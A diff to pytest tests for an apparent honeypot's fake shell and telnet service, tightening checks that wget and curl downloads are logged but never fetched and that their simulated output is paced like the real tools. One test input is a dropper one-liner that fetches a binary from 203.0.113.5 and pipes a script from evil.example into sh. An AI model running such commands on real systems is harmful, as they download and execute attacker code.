@@ -56,9 +56,21 @@ def test_wget_and_curl_are_recorded_never_fetched() -> None:
         "cd /tmp; wget http://203.0.113.5:8080/bins/x86 -O x; curl -s https://evil.example/a.sh | sh"
     )
     # the real tools take time: the rtt of a refusal, the resolver's timeout for a name
+    # (and each program its start: a few milliseconds, the host's own)
     pieces = paced(sh, out)
-    assert pieces[0][0].endswith("Connecting to 203.0.113.5:8080... ") and 0 < pieces[0][1] < 1
-    assert pieces[1][1] == RESOLVER_WAIT and "".join(p for p, _ in pieces) == out
+    assert "".join(p for p, _ in pieces) == out
+    text = ""
+    waits = []
+    for piece, wait in pieces:
+        text += piece
+        waits.append((text, wait))
+    refused = [w for t, w in waits if t.endswith("Connecting to 203.0.113.5:8080... ")]
+    assert len(refused) == 1 and 0.02 <= refused[0] <= 0.2
+    assert [w for t, w in waits if t.endswith("http://203.0.113.5:8080/bins/x86\n")] == []
+    assert [w for _, w in waits if w >= 1] == [RESOLVER_WAIT]  # curl resolving evil.example
+    starts = [w for _, w in waits if w and w not in refused and w != RESOLVER_WAIT]
+    assert len(starts) == 2 and all(0.003 <= w <= 0.008 for w in starts)  # wget's and curl's start
+    assert sh.execute("cd /tmp") == "" and sh.pauses == []  # a builtin: no program started
     events = sh.take_events()
     assert [e[0] for e in events] == [Kind.DOWNLOAD, Kind.DOWNLOAD]
     assert events[0][1:] == (
@@ -95,10 +107,13 @@ def test_telnet_sends_the_output_after_the_pause() -> None:
     assert session.authenticated
     out = session.receive(b"wget http://bad.example/x\r\n")
     assert b"Resolving bad.example (bad.example)... " in out.send and b"failed" not in out.send
-    assert out.delay == RESOLVER_WAIT and b"failed: Temporary failure" in out.later
+    assert RESOLVER_WAIT < out.delay < RESOLVER_WAIT + 0.02  # the resolver, and wget's start
+    assert b"failed: Temporary failure" in out.later
     assert out.later.endswith(session.shell.prompt().encode())
     assert [e[0] for e in out.events] == [Kind.COMMAND, Kind.DOWNLOAD]
-    assert b"/usr/sbin/in.telnetd" in session.receive(b"ps aux\r\n").send  # the session's own processes
+    ps = session.receive(b"ps aux\r\n")
+    assert ps.send == b"ps aux\r\n" and 0.009 <= ps.delay <= 0.024  # the echo; ps takes its time
+    assert b"/usr/sbin/in.telnetd" in ps.later  # the session's own processes
 
 
 @pytest.mark.parametrize(
